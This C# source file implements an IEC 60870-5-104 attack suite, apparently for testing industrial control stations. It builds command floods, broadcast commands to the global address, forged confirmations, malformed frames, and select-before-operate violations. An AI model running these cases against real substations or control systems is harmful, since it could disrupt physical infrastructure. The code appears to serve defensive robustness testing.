using System.Diagnostics;
using System.Globalization;
using System.Net;
using EdgeShield.Protocols.Iec104;

namespace EdgeShield.Simulators;

/// <summary>Bounds of an <see cref="Iec104AttackSuite"/> run.</summary>
public sealed class Iec104AttackOptions
{
    /// <summary>How long to wait for an answer before calling it <see cref="ProbeOutcome.NoAnswer"/>.</summary>
    public int AnswerTimeoutMs { get; init; } = 1000;
    public int ConnectTimeoutMs { get; init; } = 2000;
    /// <summary>The station's common address (the attacks aim at it, or at the global 0xFFFF or another on purpose).</summary>
    public ushort CommonAddress { get; init; } = 1;
    /// <summary>A command object and a set-point the station has (the simulator's 2000 and 3000).</summary>
    public uint CommandIoa { get; init; } = Iec104Points.CommandBase;
    public uint SetpointIoa { get; init; } = Iec104Points.SetpointBase;
    /// <summary>Commands of the command-flood and setpoint-flood cases, and interrogations of interrogation-flood.</summary>
    public int FloodCommands { get; init; } = 500;
    public int FloodInterrogations { get; init; } = 100;
    /// <summary>I-frames sent before the flood waits for their confirmations (the k window is 12).</summary>
    public int FloodWindow { get; init; } = 8;
    /// <summary>Wall-clock bound of any one case.</summary>
    public TimeSpan CaseTimeLimit { get; init; } = TimeSpan.FromSeconds(15);
}

/// <summary>
/// Named attacks against an IEC 60870-5-104 station (port 2404), grouped into scenarios: command and interrogation
/// floods, the global common address, confirmations forged by a client, APDU and ASDU length lies, SQ and N lies,
/// sequence-number gaps, malformed U-frames, I-frames before STARTDT, unknown types, monitor-direction types sent
/// by a client, and select-before-operate violations. Results use <see cref="AttackCaseResult"/> (the shape of the
/// Modbus and S7 suites): <see cref="ProbeOutcome.Exception"/> is a negative confirmation whose cause is
/// <see cref="AttackCaseResult.ExceptionCode"/> (7, 44, 45, 46, 47 — printed in hex as the other suites print codes;
/// <see cref="AttackCaseResult.Detail"/> says it in decimal), <see cref="ProbeOutcome.Normal"/> a positive answer.
/// Spontaneous, periodic and background reports (causes 1-3) and S-frames are not answers and are skipped.
/// </summary>
public static class Iec104AttackSuite
{
    private static readonly (string Name, string[] Cases)[] ScenarioTable =
    [
        ("command-flood", ["command-flood", "setpoint-flood", "interrogation-flood"]),
        ("global-ca", ["global-ca-single-command", "global-ca-double-command", "global-ca-setpoint", "global-ca-interrogation", "global-ca-counter-interrogation", "global-ca-clock-sync"]),
        ("forged-confirmations", ["forged-actcon", "forged-negative-actcon", "forged-actterm", "forged-deactcon", "forged-interrogation-actterm"]),
        ("bad-lengths", ["len-254", "len-255", "len-3", "len-beyond-asdu", "asdu-shorter-than-type", "asdu-longer-than-type", "asdu-header-only", "asdu-truncated-header", "s-frame-with-asdu", "u-frame-with-asdu"]),
        ("sq-number-lies", ["n-zero", "n-more-than-objects", "n-fewer-than-objects", "sq1-without-base-ioa", "sq1-ioa-overflow", "sq1-command-three", "sq0-command-two-objects"]),
        ("sequence-gaps", ["ns-gap", "ns-repeat", "ns-first-not-zero", "nr-never-sent"]),
        ("u-frames", ["u-two-functions", "u-all-functions", "u-no-function", "u-control-nonzero", "startdt-con-from-client", "testfr-con-unasked"]),
        ("before-startdt", ["interrogation-before-startdt", "command-before-startdt", "command-after-stopdt"]),
        ("unknown-types", ["type-0", "type-2", "type-99", "type-255", "security-81", "bitstring-51", "parameter-110", "file-120"]),
        ("monitor-types", ["m-sp-na-1", "m-dp-tb-1", "m-me-nc-1", "m-it-na-1", "m-ei-na-1"]),
        ("select-before-operate", ["execute-without-select", "execute-other-value", "execute-after-deactivation", "select-other-connection"]),
    ];

    private static readonly string[] Names = ScenarioTable.SelectMany(static s => s.Cases).ToArray();
    private static readonly string[] Scenarios = ScenarioTable.Select(static s => s.Name).ToArray();

    public static IReadOnlyList<string> CaseNames => Names;

    public static IReadOnlyList<string> ScenarioNames => Scenarios;

    /// <exception cref="ArgumentException">When <paramref name="scenario"/> is not one of <see cref="ScenarioNames"/>.</exception>
    public static IReadOnlyList<string> CasesOf(string scenario)
    {
        foreach (var (name, cases) in ScenarioTable)
        {
            if (name == scenario)
            {
                return cases;
            }
        }
        throw new ArgumentException($"no IEC 104 attack scenario '{scenario}'", nameof(scenario));
    }

    public static async Task<AttackScenarioResult> RunScenarioAsync(IPEndPoint target, string scenario, Iec104AttackOptions options, CancellationToken ct)
    {
        var cases = CasesOf(scenario);
        var watch = Stopwatch.StartNew();
        var results = new List<AttackCaseResult>(cases.Count);
        foreach (string name in cases)
        {
            results.Add(await RunCaseAsync(target, name, options, ct));
        }
        return new AttackScenarioResult(scenario, results, watch.Elapsed);
    }

    /// <summary>One step of a case: bytes sent as they are, an ASDU sent in an I-frame numbered by the client, or a change of the client's N(S).</summary>
    private readonly record struct Step(byte[] Bytes, bool Numbered, int SequenceJump = 0, bool AwaitAnswer = false)
    {
        public static Step Raw(byte[] bytes) => new(bytes, false);
        public static Step I(byte[] asdu) => new(asdu, true);
        /// <summary>An I-frame whose answer is read and set aside before the next step (a legitimate exchange first).</summary>
        public static Step Exchange(byte[] asdu) => new(asdu, true, 0, AwaitAnswer: true);
        public static Step Jump(int by) => new([], false, by);
    }

    /// <exception cref="ArgumentException">When <paramref name="name"/> is not one of <see cref="CaseNames"/>.</exception>
    public static async Task<AttackCaseResult> RunCaseAsync(IPEndPoint target, string name, Iec104AttackOptions options, CancellationToken ct)
    {
        ArgumentNullException.ThrowIfNull(target);
        ArgumentNullException.ThrowIfNull(options);
        using var bound = CancellationTokenSource.CreateLinkedTokenSource(ct);
        bound.CancelAfter(options.CaseTimeLimit);
        var bt = bound.Token;
        ushort ca = options.CommonAddress;
        uint cmd = options.CommandIoa, sp = options.SetpointIoa;
        const byte SC = 45, DC = 46, SE_NC = 50, IC = 100, CI = 101, RD = 102, CS = 103;
        byte[] Sc(bool select, byte cause = 6, ushort? toCa = null) => Iec104Build.Asdu(SC, cause, toCa ?? ca, cmd, [Iec104Build.Sco(true, select)]);
        byte[] read = Iec104Build.Asdu(RD, 5, ca, 100, []);
        var now = Iec104Build.Time(DateTime.Now.Year is >= 2000 and <= 2099 ? DateTime.Now : new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Unspecified));
        return name switch
        {
            // ---- floods ----
            "command-flood" => await FloodAsync(target, name, i => Iec104Build.Asdu(SC, 6, ca, cmd + (uint)(i % 100), [Iec104Build.Sco(i % 2 == 0, select: false)]), options.FloodCommands, options, bt),
            "setpoint-flood" => await FloodAsync(target, name, i => Iec104Build.Asdu(SE_NC, 6, ca, sp + (uint)(i % 10), Iec104Build.SetpointFloat(i % 1000, select: false)), options.FloodCommands, options, bt),
            "interrogation-flood" => await FloodAsync(target, name, _ => Iec104Build.Asdu(IC, 6, ca, 0, [20]), options.FloodInterrogations, options, bt),
            // ---- the global common address ----
            "global-ca-single-command" => await OneAsync(target, name, [Step.I(Sc(select: true, toCa: 0xFFFF))], options, bt),
            "global-ca-double-command" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(DC, 6, 0xFFFF, cmd, [Iec104Build.Dco(2, select: false)]))], options, bt),
            "global-ca-setpoint" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(SE_NC, 6, 0xFFFF, sp, Iec104Build.SetpointFloat(99.5f, select: false)))], options, bt),
            "global-ca-interrogation" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(IC, 6, 0xFFFF, 0, [20]))], options, bt),
            "global-ca-counter-interrogation" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(CI, 6, 0xFFFF, 0, [5]))], options, bt),
            "global-ca-clock-sync" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(CS, 6, 0xFFFF, 0, now))], options, bt),
            // ---- a client sending what only a station sends ----
            "forged-actcon" => await OneAsync(target, name, [Step.I(Sc(select: false, cause: 7))], options, bt),
            "forged-negative-actcon" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(SC, 7, ca, cmd, [Iec104Build.Sco(true, false)], negative: true))], options, bt),
            "forged-actterm" => await OneAsync(target, name, [Step.I(Sc(select: false, cause: 10))], options, bt),
            "forged-deactcon" => await OneAsync(target, name, [Step.I(Sc(select: false, cause: 9))], options, bt),
            "forged-interrogation-actterm" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(IC, 10, ca, 0, [20]))], options, bt),
            // ---- APDU and ASDU lengths ----
            "len-254" => await OneAsync(target, name, [Step.Raw([0x68, 254, .. new byte[254]])], options, bt),
            "len-255" => await OneAsync(target, name, [Step.Raw([0x68, 255, .. new byte[255]])], options, bt),
            "len-3" => await OneAsync(target, name, [Step.Raw([0x68, 3, 0x01, 0x00, 0x00])], options, bt),
            // LEN claims 6 octets more than the I-frame carries: the next frame (a TESTFR act) is swallowed into its ASDU.
            "len-beyond-asdu" => await OneAsync(target, name, [Step.Raw(LengthLie(read, +6))], options, bt),
            "asdu-shorter-than-type" => await OneAsync(target, name, [Step.I([SC, 1, 6, 0, (byte)ca, (byte)(ca >> 8), (byte)cmd, (byte)(cmd >> 8), (byte)(cmd >> 16)])], options, bt),
            "asdu-longer-than-type" => await OneAsync(target, name, [Step.I([.. Sc(select: true), 0xAA, 0xBB])], options, bt),
            "asdu-header-only" => await OneAsync(target, name, [Step.I([SC, 1, 6, 0, (byte)ca, (byte)(ca >> 8)])], options, bt),
            "asdu-truncated-header" => await OneAsync(target, name, [Step.Raw([0x68, 7, 0x00, 0x00, 0x00, 0x00, SC, 1, 6])], options, bt),
            "s-frame-with-asdu" => await OneAsync(target, name, [Step.Raw([0x68, 10, 0x01, 0x00, 0x00, 0x00, .. read[..6]])], options, bt),
            "u-frame-with-asdu" => await OneAsync(target, name, [Step.Raw([0x68, 10, 0x43, 0x00, 0x00, 0x00, .. read[..6]])], options, bt),
            // ---- SQ and N ----
            "n-zero" => await OneAsync(target, name, [Step.I(WithVsq(Sc(select: true), 0x00))], options, bt),
            "n-more-than-objects" => await OneAsync(target, name, [Step.I(WithVsq(Sc(select: true), 0x05))], options, bt),
            "n-fewer-than-objects" => await OneAsync(target, name, [Step.I([.. WithVsq(Sc(select: true), 0x01), (byte)(cmd + 1), (byte)((cmd + 1) >> 8), (byte)((cmd + 1) >> 16), 0x81])], options, bt),
            // lib60870 issue 200: SQ = 1 and not even a base IOA.
            "sq1-without-base-ioa" => await OneAsync(target, name, [Step.I([SC, 0x82, 6, 0, (byte)ca, (byte)(ca >> 8), 0x81])], options, bt),
            "sq1-ioa-overflow" => await OneAsync(target, name, [Step.I([SC, 0x82, 6, 0, (byte)ca, (byte)(ca >> 8), 0xFF, 0xFF, 0xFF, 0x81, 0x81])], options, bt),
            "sq1-command-three" => await OneAsync(target, name, [Step.I([SC, 0x83, 6, 0, (byte)ca, (byte)(ca >> 8), (byte)cmd, (byte)(cmd >> 8), (byte)(cmd >> 16), 0x81, 0x81, 0x81])], options, bt),
            "sq0-command-two-objects" => await OneAsync(target, name, [Step.I([.. WithVsq(Sc(select: true), 0x02), (byte)(cmd + 1), (byte)((cmd + 1) >> 8), (byte)((cmd + 1) >> 16), 0x81])], options, bt),
            // ---- sequence numbers ----
            "ns-gap" => await OneAsync(target, name, [Step.Exchange(read), Step.Jump(3), Step.I(read)], options, bt),
            "ns-repeat" => await OneAsync(target, name, [Step.Exchange(read), Step.Jump(-1), Step.I(read)], options, bt),
            "ns-first-not-zero" => await OneAsync(target, name, [Step.Jump(100), Step.I(read)], options, bt),
            "nr-never-sent" => await OneAsync(target, name, [Step.Raw(Iec104Build.IFrame(0, 500, read))], options, bt),
            // ---- U-frames (CVE-2026-1773: more than one function) ----
            "u-two-functions" => await OneAsync(target, name, [Step.Raw([0x68, 4, 0x47, 0, 0, 0])], options, bt, start: false),
            "u-all-functions" => await OneAsync(target, name, [Step.Raw([0x68, 4, 0xFF, 0, 0, 0])], options, bt, start: false),
            "u-no-function" => await OneAsync(target, name, [Step.Raw([0x68, 4, 0x03, 0, 0, 0])], options, bt, start: false),
            "u-control-nonzero" => await OneAsync(target, name, [Step.Raw([0x68, 4, 0x43, 0, 1, 0])], options, bt, start: false),
            "startdt-con-from-client" => await OneAsync(target, name, [Step.Raw(Iec104Build.UFrame(Iec104UFunction.StartDtCon))], options, bt),
            "testfr-con-unasked" => await OneAsync(target, name, [Step.Raw(Iec104Build.UFrame(Iec104UFunction.TestFrCon))], options, bt),
            // ---- before STARTDT ----
            "interrogation-before-startdt" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(IC, 6, ca, 0, [20]))], options, bt, start: false),
            "command-before-startdt" => await OneAsync(target, name, [Step.I(Sc(select: true))], options, bt, start: false),
            "command-after-stopdt" => await OneAsync(target, name, [Step.Raw(Iec104Build.UFrame(Iec104UFunction.StopDtAct)), Step.I(Sc(select: true))], options, bt, skipStopCon: true),
            // ---- unknown and unserved types ----
            "type-0" => await OneAsync(target, name, [Step.I([0, 1, 6, 0, (byte)ca, (byte)(ca >> 8), 0, 0, 0, 0])], options, bt),
            "type-2" => await OneAsync(target, name, [Step.I([2, 1, 6, 0, (byte)ca, (byte)(ca >> 8), 100, 0, 0, 1, 0, 0, 0])], options, bt),
            "type-99" => await OneAsync(target, name, [Step.I([99, 1, 6, 0, (byte)ca, (byte)(ca >> 8), 0, 0, 0, 1])], options, bt),
            "type-255" => await OneAsync(target, name, [Step.I([255, 1, 6, 0, (byte)ca, (byte)(ca >> 8), 0, 0, 0, 1])], options, bt),
            "security-81" => await OneAsync(target, name, [Step.I([81, 1, 6, 0, (byte)ca, (byte)(ca >> 8), 0, 0, 0, 0, 0, 0, 0])], options, bt),
            "bitstring-51" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(51, 6, ca, cmd, [0xFF, 0xFF, 0xFF, 0xFF]))], options, bt),
            "parameter-110" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(110, 6, ca, 200, [0x00, 0x40, 0x01]))], options, bt),
            "file-120" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(120, 13, ca, 0, [1, 0, 0, 0, 0, 0]))], options, bt),
            // ---- monitor-direction types sent by a client ----
            "m-sp-na-1" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(1, 3, ca, 100, [1]))], options, bt),
            "m-dp-tb-1" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(31, 3, ca, 110, [2, .. now]))], options, bt),
            "m-me-nc-1" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(13, 3, ca, 200, [0, 0, 0x48, 0x42, 0]))], options, bt),
            "m-it-na-1" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(15, 37, ca, 300, [0xFF, 0xFF, 0xFF, 0x7F, 0]))], options, bt),
            "m-ei-na-1" => await OneAsync(target, name, [Step.I(Iec104Build.Asdu(70, 4, ca, 0, [0]))], options, bt),
            // ---- select-before-operate ----
            "execute-without-select" => await OneAsync(target, name, [Step.I(Sc(select: false))], options, bt),
            "execute-other-value" => await OneAsync(target, name, [Step.Exchange(Sc(select: true)), Step.I(Iec104Build.Asdu(SC, 6, ca, cmd, [Iec104Build.Sco(false, select: false)]))], options, bt),
            "execute-after-deactivation" => await OneAsync(target, name, [Step.Exchange(Sc(select: true)), Step.Exchange(Sc(select: true, cause: 8)), Step.I(Sc(select: false))], options, bt),
            "select-other-connection" => await OtherConnectionAsync(target, name, Sc(select: true), Sc(select: false), options, bt),
            _ => throw new ArgumentException($"no IEC 104 attack case '{name}'", nameof(name)),
        };
    }

    private static byte[] WithVsq(byte[] asdu, byte vsq)
    {
        asdu[1] = vsq;
        return asdu;
    }

    /// <summary>An I-frame (N(S) 0, N(R) 0) around <paramref name="asdu"/> whose LEN is off by <paramref name="by"/>, then a TESTFR act.</summary>
    private static byte[] LengthLie(byte[] asdu, int by)
    {
        var frame = Iec104Build.IFrame(0, 0, asdu);
        frame[1] = (byte)(frame[1] + by);
        return [.. frame, .. Iec104Build.UFrame(Iec104UFunction.TestFrAct)];
    }

    private static async Task<(Iec104Client? Client, AttackCaseResult? Failed)> PrepareAsync(IPEndPoint target, string name, Iec104AttackOptions options, bool start, CancellationToken ct)
    {
        var client = await Iec104Client.ConnectAsync(target, options.ConnectTimeoutMs, ct);
        if (client is null)
        {
            return (null, new AttackCaseResult(name, ProbeOutcome.ConnectFailed, 0) { Sent = 0, ConnectFailed = 1 });
        }
        if (start && !await client.StartAsync(options.ConnectTimeoutMs, ct))
        {
            bool closed = client.Closed;
            client.Dispose();
            return (null, new AttackCaseResult(name, closed ? ProbeOutcome.ConnectionClosed : ProbeOutcome.NoAnswer, 0)
            {
                Sent = 1,
                Closed = closed ? 1 : 0,
                NoAnswer = closed ? 0 : 1,
                Detail = "STARTDT act not confirmed",
            });
        }
        return (client, null);
    }

    /// <summary>An answer: an I-frame that is not a spontaneous, periodic or background report, or a U-frame (not an S-frame).</summary>
    private static bool IsAnswer(Iec104Received r) => r.Format == Iec104Format.U || (r.Format == Iec104Format.I && r.Cause is not (1 or 2 or 3));

    private static (ProbeOutcome Outcome, byte Code, string Detail) Classify(Iec104Received? answer, Iec104Client client)
    {
        if (answer is not { } r)
        {
            return client.Closed ? (ProbeOutcome.ConnectionClosed, (byte)0, client.Garbage > 0 ? "bytes that do not frame as IEC 104" : "") : (ProbeOutcome.NoAnswer, (byte)0, "");
        }
        if (r.Format == Iec104Format.U)
        {
            return (ProbeOutcome.Normal, (byte)0, Iec104UFunctions.Name(r.Function));
        }
        string detail = string.Create(CultureInfo.InvariantCulture, $"{Iec104Build.TypeName(r.Type)} cause {r.Cause} {Iec104Causes.Name(r.Cause)}{(r.Negative ? ", negative" : "")}");
        return r.Negative ? (ProbeOutcome.Exception, r.Cause, detail) : (ProbeOutcome.Normal, (byte)0, detail);
    }

    private static async Task<AttackCaseResult> OneAsync(IPEndPoint target, string name, Step[] steps, Iec104AttackOptions options, CancellationToken ct, bool start = true, bool skipStopCon = false)
    {
        int sent = 0;
        try
        {
            var (client, failed) = await PrepareAsync(target, name, options, start, ct);
            if (client is null)
            {
                return failed!;
            }
            using (client)
            {
                foreach (var step in steps)
                {
                    if (step.SequenceJump != 0)
                    {
                        client.SendSequence = Iec104Sequence.Add(client.SendSequence, step.SequenceJump);
                        continue;
                    }
                    sent++;
                    bool ok = step.Numbered ? await client.SendAsduAsync(step.Bytes, ct) : await client.SendRawAsync(step.Bytes, ct);
                    if (!ok)
                    {
                        break;
                    }
                    if (step.AwaitAnswer)
                    {
                        var first = await client.WaitAsync(IsAnswer, options.AnswerTimeoutMs, ct);
                        if (first is null || first.Value.Negative)
                        {
                            // The legitimate first step already failed: report that.
                            var (o, c, d) = Classify(first, client);
                            return Single(name, o, c, "first step: " + (d.Length > 0 ? d : o.ToString()), sent);
                        }
                        if (first.Value.Format == Iec104Format.I && first.Value.Cause == 7 && first.Value.Type is 100 or 101)
                        {
                            await client.WaitAsync(static r => r.Format == Iec104Format.I && r.Cause == 10, options.AnswerTimeoutMs, ct);
                        }
                    }
                }
                Func<Iec104Received, bool> match = skipStopCon ? static r => IsAnswer(r) && r.Function != Iec104UFunction.StopDtCon : IsAnswer;
                var answer = await client.WaitAsync(match, options.AnswerTimeoutMs, ct);
                var (outcome, code, detail) = Classify(answer, client);
                return Single(name, outcome, code, detail, sent);
            }
        }
        catch (OperationCanceledException)
        {
            return new AttackCaseResult(name, ProbeOutcome.NoAnswer, 0) { Sent = sent, NoAnswer = 1, Truncated = true };
        }
    }

    private static AttackCaseResult Single(string name, ProbeOutcome outcome, byte code, string detail, int sent) => new(name, outcome, code)
    {
        Sent = sent,
        Detail = detail.Length == 0 ? null : detail,
        Normal = outcome == ProbeOutcome.Normal ? 1 : 0,
        Exceptions = outcome == ProbeOutcome.Exception ? 1 : 0,
        Closed = outcome == ProbeOutcome.ConnectionClosed ? 1 : 0,
        NoAnswer = outcome == ProbeOutcome.NoAnswer ? 1 : 0,
    };

    /// <summary>A select on one connection and the execute on another: a station arms selects per connection.</summary>
    private static async Task<AttackCaseResult> OtherConnectionAsync(IPEndPoint target, string name, byte[] select, byte[] execute, Iec104AttackOptions options, CancellationToken ct)
    {
        try
        {
            var (first, failed) = await PrepareAsync(target, name, options, start: true, ct);
            if (first is null)
            {
                return failed!;
            }
            using (first)
            {
                await first.SendAsduAsync(select, ct);
                var selected = await first.WaitAsync(IsAnswer, options.AnswerTimeoutMs, ct);
                var (second, failed2) = await PrepareAsync(target, name, options, start: true, ct);
                if (second is null)
                {
                    return failed2! with { Connections = 2, Sent = 1 };
                }
                using (second)
                {
                    await second.SendAsduAsync(execute, ct);
                    var answer = await second.WaitAsync(IsAnswer, options.AnswerTimeoutMs, ct);
                    var (outcome, code, detail) = Classify(answer, second);
                    var (_, _, selectDetail) = Classify(selected, first);
                    return Single(name, outcome, code, $"{detail} (the select on the first connection: {(selectDetail.Length > 0 ? selectDetail : "no answer")})", 2) with { Connections = 2 };
                }
            }
        }
        catch (OperationCanceledException)
        {
            return new AttackCaseResult(name, ProbeOutcome.NoAnswer, 0) { Sent = 2, Connections = 2, NoAnswer = 1, Truncated = true };
        }
    }

    /// <summary>
    /// <paramref name="count"/> ASDUs on one connection, <see cref="Iec104AttackOptions.FloodWindow"/> at a time, each
    /// window waiting for its confirmations (cause 7 or negative); a close reconnects once per window.
    /// </summary>
    private static async Task<AttackCaseResult> FloodAsync(IPEndPoint target, string name, Func<int, byte[]> asdu, int count, Iec104AttackOptions options, CancellationToken ct)
    {
        int normal = 0, exceptions = 0, closed = 0, noAnswer = 0, connectFailed = 0, connections = 0, sent = 0;
        var codes = new int[256];
        bool truncated = false;
        Iec104Client? client = null;
        try
        {
            while (sent < count)
            {
                if (client is null)
                {
                    connections++;
                    (client, var failed) = await PrepareAsync(target, name, options, start: true, ct);
                    if (client is null)
                    {
                        connectFailed += failed!.Outcome == ProbeOutcome.ConnectFailed ? 1 : 0;
                        closed += failed.Outcome == ProbeOutcome.ConnectionClosed ? 1 : 0;
                        noAnswer += failed.Outcome == ProbeOutcome.NoAnswer ? 1 : 0;
                        break;
                    }
                }
                int window = Math.Min(options.FloodWindow, count - sent);
                for (int i = 0; i < window; i++)
                {
                    await client.SendAsduAsync(asdu(sent + i), ct);
                }
                sent += window;
                for (int i = 0; i < window; i++)
                {
                    var answer = await client.WaitAsync(static r => r.Format == Iec104Format.I && (r.Cause == 7 || r.Negative), options.AnswerTimeoutMs, ct);
                    var (outcome, code, _) = Classify(answer, client);
                    switch (outcome)
                    {
                        case ProbeOutcome.Normal:
                            normal++;
                            break;
                        case ProbeOutcome.Exception:
                            exceptions++;
                            codes[code]++;
                            break;
                        case ProbeOutcome.ConnectionClosed:
                            closed += window - i;
                            i = window;
                            break;
                        default:
                            noAnswer += window - i;
                            i = window;
                            break;
                    }
                }
                if (client.Closed)
                {
                    client.Dispose();
                    client = null;
                }
            }
        }
        catch (OperationCanceledException)
        {
            truncated = true;
        }
        finally
        {
            client?.Dispose();
        }
        int top = 0;
        for (int i = 1; i < 256; i++)
        {
            top = codes[i] > codes[top] ? i : top;
        }
        var most = Max((ProbeOutcome.Normal, normal), (ProbeOutcome.Exception, exceptions), (ProbeOutcome.ConnectionClosed, closed), (ProbeOutcome.NoAnswer, noAnswer), (ProbeOutcome.ConnectFailed, connectFailed));
        return new AttackCaseResult(name, most, (byte)top)
        {
            Sent = sent,
            Connections = Math.Max(connections, 1),
            Normal = normal,
            Exceptions = exceptions,
            Closed = closed,
            NoAnswer = noAnswer,
            ConnectFailed = connectFailed,
            Truncated = truncated,
            Detail = exceptions > 0 ? string.Create(CultureInfo.InvariantCulture, $"most negative confirmations with cause {top} {Iec104Causes.Name((byte)top)}") : null,
        };
    }

    private static ProbeOutcome Max(params (ProbeOutcome Outcome, int Count)[] counts)
    {
        var best = counts[0];
        foreach (var c in counts)
        {
            if (c.Count > best.Count)
            {
                best = c;
            }
        }
        return best.Outcome;
    }
}
